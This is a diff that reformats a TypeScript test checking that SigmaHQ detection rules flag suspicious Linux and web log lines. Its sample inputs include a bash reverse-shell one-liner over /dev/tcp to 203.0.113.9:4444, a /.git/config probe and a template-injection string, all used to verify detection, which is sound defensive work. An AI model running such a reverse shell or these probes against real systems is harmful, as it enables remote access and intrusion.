@@ -37,7 +37,10 @@ describe('SigmaHQ Linux and web rules', needsCorpora('detect/sigma/rules'), () =
     );
     assert.deepEqual(errors, []);
     for (const { file, reason } of unsupported) {
-      assert.ok(allowedReasons.some((allowed) => allowed.test(reason)), `${file}: ${reason}`);
+      assert.ok(
+        allowedReasons.some((allowed) => allowed.test(reason)),
+        `${file}: ${reason}`,
+      );
     }
     assert.ok(rules.length >= 220, `only ${rules.length} rules loaded`);
   });
@@ -59,20 +62,22 @@ describe('SigmaHQ Linux and web rules', needsCorpora('detect/sigma/rules'), () =
       ]),
       [],
     );
-    assert.deepEqual(titles(['Feb 12 14:10:21 web1 bash[3000]: user ran: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']), [
-      'Suspicious Reverse Shell Command Line',
-      'Suspicious Use of /dev/tcp',
-    ]);
-    assert.deepEqual(titles(['Feb 12 14:10:21 web1 sshd[16378]: error: Corrupted MAC on input.'], '/var/log/auth.log'), [
-      'Suspicious OpenSSH Daemon Error',
-    ]);
+    assert.deepEqual(
+      titles(['Feb 12 14:10:21 web1 bash[3000]: user ran: bash -i >& /dev/tcp/203.0.113.9/4444 0>&1']),
+      ['Suspicious Reverse Shell Command Line', 'Suspicious Use of /dev/tcp'],
+    );
+    assert.deepEqual(
+      titles(['Feb 12 14:10:21 web1 sshd[16378]: error: Corrupted MAC on input.'], '/var/log/auth.log'),
+      ['Suspicious OpenSSH Daemon Error'],
+    );
     const access = (request: string): string =>
       `203.0.113.9 - - [12/Feb/2026:14:10:21 +0000] "GET ${request} HTTP/1.1" 404 153 "-" "curl/8.0"`;
     assert.deepEqual(titles([access('/.git/config')], '/var/log/nginx/access.log'), [
       'Source Code Enumeration Detection by Keyword',
     ]);
-    assert.deepEqual(titles([access('/index.php?q={{7*7}}').replace('404', '200')], '/var/log/nginx/access.log'), [
-      'Server Side Template Injection Strings',
-    ]);
+    assert.deepEqual(
+      titles([access('/index.php?q={{7*7}}').replace('404', '200')], '/var/log/nginx/access.log'),
+      ['Server Side Template Injection Strings'],
+    );
   });
 });
